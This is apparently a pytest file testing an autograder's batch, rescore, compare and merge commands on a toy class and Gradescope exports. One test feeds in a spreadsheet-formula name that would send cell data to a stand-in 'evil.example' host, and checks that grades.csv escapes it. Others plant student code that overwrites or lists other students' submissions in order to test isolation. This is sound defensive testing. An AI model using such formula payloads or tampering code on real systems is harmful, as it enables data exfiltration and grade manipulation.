"""./grader batch, rescore, compare and merge on the toy assignment, run as course staff run them."""
import csv
import json
import os
import shutil
import subprocess
import sys
import zipfile

import pytest

from .helpers import CORRECT, REPO, TOY, grader, toy_options

AS_ROOT = os.geteuid() == 0


def rows(out):
    """grades.csv as staff's spreadsheet reads it (UTF-8 with a byte-order mark), one dict per row."""
    raw = (out / "grades.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "no byte-order mark: Excel would garble accented names"
    return list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))


def by_submission(out):
    return {row["submission"]: row for row in rows(out)}


def export(folder, submissions):
    """A folder laid out as Gradescope's "Export Submissions": submission_<id>/ and the metadata.

    submissions: {id: [(name, sid, email), ...]}; each gets the correct toy files. The metadata is
    written as Gradescope writes it (Ruby symbols as keys, a Ruby-tagged score, quoted SIDs)."""
    lines = []
    for key, members in submissions.items():
        shutil.copytree(CORRECT, folder / key)
        lines += [f"{key}:", "  :submitters:"]
        for name, sid, email in members:
            lines += [f"  - :name: {json.dumps(name)}", f"    :sid: '{sid}'", f"    :email: {json.dumps(email)}"]
        lines += ["  :created_at: 2026-11-20 10:00:00.000000000 -08:00",
                  "  :score: !ruby/object:BigDecimal 18:0.15e2", "  :status: processed"]
    (folder / "submission_metadata.yml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return folder


# ---------------------------------------------------------------- grading a class

def test_a_batch_grades_every_submission_and_writes_one_csv_row_each(toy_class, tmp_path):
    grader("batch", toy_class, "--out", tmp_path / "out", "--jobs", 2, *toy_options())
    table = by_submission(tmp_path / "out")
    assert {k: v["total"] for k, v in table.items()} == {"ada": "15", "ben": "8", "cy": "0", "dee": "15", "eve": "15"}
    assert table["ben"]["toy.py"] == "8" and table["ben"]["test_toy_examples.py::test_scale_doubles_a_vector"] == "0"
    for name in table:
        results = json.loads((tmp_path / "out" / "results" / name / "results.json").read_text())
        assert results["score"] == float(table[name]["total"])


def test_gradescopes_export_gives_each_group_member_a_row_with_sid_name_and_email(tmp_path):
    folder = export(tmp_path / "export", {
        "submission_101": [("Zoë Ångström", "012345", "zoe@example.edu"), ("Ben Okafor", "9", "ben@example.edu")],
        "submission_102": [("Ada Lovelace", "1", "ada@example.edu")]})
    grader("batch", folder, "--out", tmp_path / "out", *toy_options())
    table = [(r["sid"], r["name"], r["email"], r["submission"], r["total"]) for r in rows(tmp_path / "out")]
    assert table == [("012345", "Zoë Ångström", "zoe@example.edu", "submission_101", "15"),
                     ("9", "Ben Okafor", "ben@example.edu", "submission_101", "15"),
                     ("1", "Ada Lovelace", "ada@example.edu", "submission_102", "15")]


def test_a_name_that_is_a_spreadsheet_formula_stays_text_in_grades_csv(tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&B3&B4,"Regrade")'
    folder = export(tmp_path / "export", {"submission_7": [(formula, "+7", "@x.example")]})
    grader("batch", folder, "--out", tmp_path / "out", *toy_options())
    row = rows(tmp_path / "out")[0]
    assert (row["name"], row["sid"], row["email"]) == ("'" + formula, "'+7", "'@x.example")


def test_the_export_zip_itself_is_graded(tmp_path):
    folder = export(tmp_path / "assignment_42_export", {"submission_1": [("Ada", "1", "a@x")],
                                                       "submission_2": [("Ben", "2", "b@x")]})
    archive = tmp_path / "assignment_42_export.zip"
    with zipfile.ZipFile(archive, "w") as handle:
        for path in sorted(folder.rglob("*")):
            handle.write(path, path.relative_to(tmp_path))
    shutil.rmtree(folder)
    proc = grader("batch", archive, "--out", tmp_path / "out", *toy_options())
    assert "graded 2 submission(s)" in proc.stdout
    assert [r["name"] for r in rows(tmp_path / "out")] == ["Ada", "Ben"]


def test_an_export_pointed_at_from_a_folder_above_is_still_graded_student_by_student(tmp_path):
    export(tmp_path / "downloads" / "assignment_42_export", {"submission_1": [("Ada", "1", "a@x")],
                                                             "submission_2": [("Ben", "2", "b@x")]})
    proc = grader("batch", tmp_path / "downloads", "--out", tmp_path / "out", *toy_options())
    assert "Gradescope's export found in" in proc.stdout and "graded 2 submission(s)" in proc.stdout
    assert [r["submission"] for r in rows(tmp_path / "out")] == ["submission_1", "submission_2"]


@pytest.mark.parametrize("make, sentence", [
    (lambda p: p / "missing", "does not exist: give Gradescope's export"),
    (lambda p: (p / "notes.txt").write_text("x") and p / "notes.txt", "is a file but not a zip file"),
    (lambda p: (p / "broken.zip").write_bytes(b"PK\x03\x04 not really") and p / "broken.zip", "not a zip file"),
    (lambda p: shutil.copytree(CORRECT, p / "ada"), "looks like one submission, not a class"),
    (lambda p: shutil.copytree(CORRECT, p / "class" / "ada") and p / "class", "holds nothing but the folder ada"),
    (lambda p: (p / "empty").mkdir() or p / "empty", "holds no submissions"),
])
def test_what_batch_cannot_read_is_refused_with_a_sentence(tmp_path, make, sentence):
    proc = grader("batch", make(tmp_path), "--out", tmp_path / "out", *toy_options(), check=False)
    assert proc.returncode == 2 and sentence in proc.stderr
    assert "Traceback" not in proc.stderr + proc.stdout


def test_a_garbled_metadata_file_is_refused_with_its_line(tmp_path):
    folder = export(tmp_path / "export", {"submission_1": [("Ada", "1", "a@x")]})
    (folder / "submission_metadata.yml").write_text("submission_1:\n  :submitters: [unclosed\n")
    proc = grader("batch", folder, "--out", tmp_path / "out", *toy_options(), check=False)
    assert proc.returncode == 2 and "submission_metadata.yml, line 3 is not valid YAML" in proc.stderr


def test_the_batch_says_what_isolation_the_class_gets(toy_class, tmp_path):
    proc = grader("batch", toy_class, "--out", tmp_path / "out", *toy_options())
    expected = "runs as a sandbox user" if AS_ROOT else "you are not root, so student code runs as you"
    assert proc.stdout.startswith("Isolation: ") and expected in proc.stdout.splitlines()[0]


def test_a_stopped_batch_resumes_with_the_submissions_not_yet_graded(toy_class, tmp_path):
    out = tmp_path / "out"
    grader("batch", toy_class, "--out", out, *toy_options())
    (out / "results" / "dee" / "record.json").unlink()  # as if the batch had stopped before dee
    again = grader("batch", toy_class, "--out", out, *toy_options())
    assert "graded 1 submission(s)" in again.stdout and "4 already graded" in again.stdout
    assert by_submission(out)["dee"]["total"] == "15"


def test_ctrl_c_stops_a_batch_with_one_line_that_says_how_to_resume(toy_class, tmp_path):
    (toy_class / "ada" / "toy.py").write_text("import time\ntime.sleep(60)\n")  # keeps the batch busy
    out = tmp_path / "out"
    command = [sys.executable, "-I", str(REPO / "source" / "staff"), "batch", str(toy_class), "--out", str(out),
               "--jobs", "1", "--quiet", *map(str, toy_options())]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                               stdin=subprocess.DEVNULL, start_new_session=True)
    for line in process.stdout:  # grading starts once the isolation line is out
        if line.startswith("Isolation:"):
            break
    os.killpg(process.pid, 2)  # Ctrl-C reaches the terminal's whole process group
    stdout, stderr = process.communicate(timeout=120)
    assert process.returncode == 130
    assert "Traceback" not in stderr and stderr.strip().count("\n") == 0, stderr
    assert "Rerun the same command to resume." in stderr
    grader("batch", toy_class, "--out", out, *toy_options(), timeout=300)
    assert set(by_submission(out)) == {"ada", "ben", "cy", "dee", "eve"}


def test_a_crash_of_the_grading_process_costs_only_its_submission(toy_class, tmp_path):
    tests = tmp_path / "tests"
    shutil.copytree(TOY / "tests", tests)
    with open(tests / "test_toy.py", "a") as stream:  # a grader bug that kills the grading process
        stream.write("\n\n@toy.grades('scale')\ndef test_crash_on_ben():\n"
                     "    import os\n    if float(toy.scale(np.ones(1), 1.0)[0]) == 2.0:\n        os._exit(3)\n")
    rubric = tmp_path / "rubric.yaml"
    rubric.write_text((TOY / "rubric.yaml").read_text().replace("total: 15", "total: 16")
                      + '  "test_toy.py::test_crash_on_ben": {points: 1}\n')
    out = tmp_path / "out"
    proc = grader("batch", toy_class, "--out", out, "--rubric", rubric, "--tests", tests)
    assert "1 crashed" in proc.stdout
    results = json.loads((out / "results" / "ben" / "results.json").read_text())
    assert "The autograder failed" in results["output"] and results["score"] == 0
    assert by_submission(out)["ada"]["total"] == "16"


def test_a_grading_that_crashes_once_is_tried_again_at_the_end_of_the_batch(toy_class, tmp_path):
    """As when another student's code filled the disk while this one was graded: the first try
    dies, the second, once the disk is free again, grades it."""
    tests = tmp_path / "tests"
    shutil.copytree(TOY / "tests", tests)
    mark = tmp_path / "crashed-once"
    with open(tests / "test_toy.py", "a") as stream:
        stream.write(f"\n\n@toy.grades('scale')\ndef test_crash_once():\n    import os\n"
                     f"    if not os.path.exists({str(mark)!r}):\n        open({str(mark)!r}, 'w').close()\n"
                     f"        os._exit(3)\n")
    rubric = tmp_path / "rubric.yaml"
    rubric.write_text((TOY / "rubric.yaml").read_text().replace("total: 15", "total: 16")
                      + '  "test_toy.py::test_crash_once": {points: 1}\n')
    out = tmp_path / "out"
    proc = grader("batch", toy_class, "--out", out, "--rubric", rubric, "--tests", tests, "--jobs", "1")
    assert "0 crashed" in proc.stdout and "tried once more at the end of this batch" in proc.stderr
    assert set(by_submission(out)) == {"ada", "ben", "cy", "dee", "eve"}
    assert by_submission(out)["ada"]["total"] == "16"


def test_each_submission_gets_the_results_run_autograder_gives_it(toy_class, tmp_path):
    """The batch collects the tests once and runs them in a child per submission: nothing of that
    may show in what a student reads."""
    grader("batch", toy_class, "--out", tmp_path / "out", *toy_options())
    for name in ("ada", "ben", "cy"):
        alone = tmp_path / f"{name}.json"
        subprocess.run([str(REPO / "run_autograder"), "--submission", str(toy_class / name), "--results", str(alone),
                        "--quiet", *map(str, toy_options())], check=True, stdin=subprocess.DEVNULL)
        batch = json.loads((tmp_path / "out" / "results" / name / "results.json").read_text())
        single = json.loads(alone.read_text())
        shown = [[(t["name"], t["score"], t["status"], t["output"]) for t in r["tests"]] for r in (batch, single)]
        assert shown[0] == shown[1] and batch["score"] == single["score"] and batch["output"] == single["output"]


def test_tests_that_cannot_be_collected_grade_nobody_and_say_why(toy_class, tmp_path):
    tests = tmp_path / "tests"
    shutil.copytree(TOY / "tests", tests)
    (tests / "test_toy.py").write_text("import no_such_module\n" + (tests / "test_toy.py").read_text())
    proc = grader("batch", toy_class, "--out", tmp_path / "out", "--rubric", TOY / "rubric.yaml", "--tests", tests,
                  check=False)
    assert proc.returncode == 2 and "batch: the graded tests could not be collected" in proc.stderr
    assert "No module named 'no_such_module'" in proc.stderr and "Nothing was graded." in proc.stderr
    assert "Traceback (most recent call last)" not in proc.stderr
    assert not (tmp_path / "out" / "results").exists()


def test_a_rubric_with_a_typo_in_a_test_id_grades_nobody(toy_class, tmp_path):
    rubric = tmp_path / "rubric.yaml"
    rubric.write_text((TOY / "rubric.yaml").read_text().replace("test_stats_returns_min_max_and_mean",
                                                                "test_stats_returns_min_max_and_maen"))
    proc = grader("batch", toy_class, "--out", tmp_path / "out", "--rubric", rubric, "--tests", TOY / "tests",
                  check=False)
    assert proc.returncode == 2 and "the rubric check fails, so nothing was graded" in proc.stderr
    assert "'test_toy.py::test_stats_returns_min_max_and_maen' matches no test (did you mean" in proc.stderr
    assert not (tmp_path / "out" / "results").exists()


@pytest.mark.skipif(AS_ROOT and not shutil.which("runuser"), reason="needs runuser to act as an ordinary user")
def test_as_an_ordinary_user_a_student_who_overwrites_another_is_stopped_or_caught(tmp_path):
    """Run as `nobody` (an ordinary user: student code runs with the grader's own uid), ada's code
    overwrites ben's submission. With Landlock it cannot; without, ben is not graded from the
    altered file, and the batch says so."""
    if not AS_ROOT:
        pytest.skip("creates a user-owned copy of the grader with runuser, as root")
    import tempfile

    from autograder.sandbox.confinement import landlock
    home = tempfile.mkdtemp(prefix="batch-as-nobody-", dir="/tmp")
    try:
        os.chmod(home, 0o755)
        shutil.copytree(REPO / ".venv", f"{home}/.venv", symlinks=True)  # the checkout is closed to other users
        shutil.copytree(REPO / "source", f"{home}/source", ignore=shutil.ignore_patterns("__pycache__"))
        shutil.copytree(TOY, f"{home}/toy", ignore=shutil.ignore_patterns("__pycache__"))
        for name in ("ada", "ben"):
            shutil.copytree(CORRECT, f"{home}/class/{name}")
        with open(f"{home}/class/ada/toy.py", "a") as stream:
            stream.write(f"\nopen({home + '/class/ben/toy.py'!r}, 'w').write('def scale(x, c):\\n    return x\\n')\n")
        subprocess.run(["chown", "-R", "nobody", home], check=True)
        proc = subprocess.run(["runuser", "-u", "nobody", "--", f"{home}/.venv/bin/python", "-I", f"{home}/source/staff", "batch",
                               f"{home}/class", "--out", f"{home}/out", "--jobs", "1", "--quiet", "--rubric",
                               f"{home}/toy/rubric.yaml", "--tests", f"{home}/toy/tests"],
                              capture_output=True, text=True, timeout=300, stdin=subprocess.DEVNULL, cwd=home)
        assert "you are not root, so student code runs as you" in proc.stdout
        table = {row["submission"]: row for row in csv.DictReader(open(f"{home}/out/grades.csv", encoding="utf-8-sig"))}
        if landlock.abi():
            assert proc.returncode == 0, proc.stdout + proc.stderr
            assert "but Landlock lets it read only" in proc.stdout
            assert "return x" not in open(f"{home}/class/ben/toy.py").read()
            assert table["ben"]["total"] == "15"
        else:
            assert proc.returncode == 1, proc.stdout + proc.stderr
            assert "the files of ben changed while the batch ran" in proc.stderr
            assert list(table) == ["ada"]
    finally:
        shutil.rmtree(home, ignore_errors=True)


def test_during_a_batch_no_student_can_read_the_others_submissions_or_results(toy_class, tmp_path):
    if not AS_ROOT:
        pytest.skip("only root has sandbox users to keep out")
    os.chmod(tmp_path, 0o755)
    (toy_class / "ben" / "toy.py").write_text((CORRECT / "toy.py").read_text().replace(
        "return c * x", f"raise RuntimeError(str(sorted(os.listdir({str(toy_class)!r}))))"))
    (toy_class / "ben" / "toy.py").write_text("import os\n" + (toy_class / "ben" / "toy.py").read_text())
    out = tmp_path / "out"
    grader("batch", toy_class, "--out", out, *toy_options())
    results = json.loads((out / "results" / "ben" / "results.json").read_text())
    scale = next(t for t in results["tests"] if t["extra_data"]["id"].endswith("test_scale_doubles_a_vector"))
    assert "PermissionError" in scale["output"] and "'ada'" not in scale["output"]
    assert os.stat(out).st_mode & 0o077 == 0


# ---------------------------------------------------------------- rescore and the regrade preview

def edited_rubric(tmp_path, points=7):
    rubric = tmp_path / "rubric.yaml"
    rubric.write_text((TOY / "rubric.yaml").read_text().replace(
        '"test_toy_examples.py::test_scale_doubles_a_vector": {points: 2,',
        f'"test_toy_examples.py::test_scale_doubles_a_vector": {{points: {points},')
        .replace("total: 15", f"total: {13 + points}"))
    return rubric


def test_rescore_applies_an_edited_rubric_and_says_whose_scores_change(toy_class, tmp_path):
    out = tmp_path / "out"
    grader("batch", toy_class, "--out", out, *toy_options())
    shutil.rmtree(toy_class)  # nothing left to run
    proc = grader("rescore", out, "--rubric", edited_rubric(tmp_path))
    assert by_submission(out)["ada"]["total"] == "20" and by_submission(out)["ben"]["total"] == "8"
    assert json.loads((out / "results" / "ada" / "results.json").read_text())["score"] == 20
    assert "3 submission(s) change (3 up, 0 down" in proc.stdout and "2 unchanged" in proc.stdout
    assert "ada (ada): 15 -> 20 (+5)" in proc.stdout
    assert "test_toy_examples.py::test_scale_doubles_a_vector: 2 -> 7" in proc.stdout
    assert by_submission(out / "previous")["ada"]["total"] == "15"  # what it replaced is kept


def test_a_rescore_preview_into_a_new_folder_leaves_the_batch_as_it_was(toy_class, tmp_path):
    out, preview = tmp_path / "out", tmp_path / "preview"
    grader("batch", toy_class, "--out", out, *toy_options())
    before = (out / "grades.csv").read_bytes()
    proc = grader("rescore", out, "--rubric", edited_rubric(tmp_path), "--out", preview)
    assert (out / "grades.csv").read_bytes() == before
    assert by_submission(preview)["ada"]["total"] == "20" and "ada (ada): 15 -> 20 (+5)" in proc.stdout
    changes = list(csv.DictReader((preview / "changes.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert {"sid": "", "name": "ada", "email": "", "submission": "ada", "test": "(total)", "old": "15", "new": "20",
            "change": "5"} in changes


def test_a_rescore_with_a_typo_in_a_test_id_changes_nothing(toy_class, tmp_path):
    out = tmp_path / "out"
    grader("batch", toy_class, "--out", out, *toy_options())
    before = (out / "grades.csv").read_bytes()
    rubric = tmp_path / "rubric.yaml"
    rubric.write_text((TOY / "rubric.yaml").read_text().replace("test_safe_div_rejects", "test_safe_div_reject"))
    proc = grader("rescore", out, "--rubric", rubric, check=False)
    assert proc.returncode == 2 and "matches no test" in proc.stderr
    assert (out / "grades.csv").read_bytes() == before


def test_a_regrade_after_a_change_to_the_tests_shows_whose_scores_change(toy_class, tmp_path):
    old, new = tmp_path / "old", tmp_path / "new"
    grader("batch", toy_class, "--out", old, *toy_options())
    tests = tmp_path / "tests"
    shutil.copytree(TOY / "tests", tests)
    examples = tests / "test_toy_examples.py"
    written = examples.read_text()
    examples.write_text(written.replace("np.array([1.0, 2.0, 3.0]), 2.0), np.array([2.0, 4.0, 6.0])",
                                        "np.array([2.0, 2.0]), 2.0), np.array([4.0, 4.0])"))
    assert examples.read_text() != written
    proc = grader("batch", toy_class, "--out", new, "--rubric", TOY / "rubric.yaml", "--tests", tests,
                  "--compare", old)
    assert "ben (ben): 8 -> 10 (+2)" in proc.stdout  # ben's c + x is right when c and x are 2
    assert "test_toy_examples.py::test_scale_doubles_a_vector: 0 -> 2" in proc.stdout
    again = grader("compare", old, new)
    assert "ben (ben): 8 -> 10 (+2)" in again.stdout and "4 unchanged" in again.stdout


# ---------------------------------------------------------------- shards

def test_shards_graded_as_separate_processes_merge_into_the_unsharded_grades(toy_class, tmp_path):
    whole = tmp_path / "whole"
    grader("batch", toy_class, "--out", whole, *toy_options())
    base = [sys.executable, "-I", str(REPO / "source" / "staff"), "batch", str(toy_class), "--quiet", "--jobs", "1",
            *map(str, toy_options())]
    shards = [subprocess.Popen(base + ["--shard", f"{k}/2", "--out", str(tmp_path / f"shard-{k}")],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
              for k in (1, 2)]
    for shard in shards:
        assert shard.wait(timeout=300) == 0, shard.stderr.read()
    assert len(rows(tmp_path / "shard-1")) == 3 and len(rows(tmp_path / "shard-2")) == 2
    proc = grader("merge", tmp_path / "shard-1", tmp_path / "shard-2", "--out", tmp_path / "merged")
    assert "merged 5 submission(s) from 2 shard(s)" in proc.stdout
    assert (tmp_path / "merged" / "grades.csv").read_bytes() == (whole / "grades.csv").read_bytes()


def test_merging_the_same_shard_twice_is_refused(toy_class, tmp_path):
    grader("batch", toy_class, "--out", tmp_path / "s1", "--shard", "1/2", *toy_options())
    shutil.copytree(tmp_path / "s1", tmp_path / "s1-copy")
    proc = grader("merge", tmp_path / "s1", tmp_path / "s1-copy", "--out", tmp_path / "merged", check=False)
    assert proc.returncode == 2 and "were two shards given the same K/N?" in proc.stderr


def test_a_metadata_file_inside_one_students_upload_does_not_turn_the_class_into_an_export(toy_class, tmp_path):
    (toy_class / "ada" / "submission_metadata.yml").write_text("submission_9:\n  :submitters: []\n")
    grader("batch", toy_class, "--out", tmp_path / "out", *toy_options())
    assert set(by_submission(tmp_path / "out")) == {"ada", "ben", "cy", "dee", "eve"}
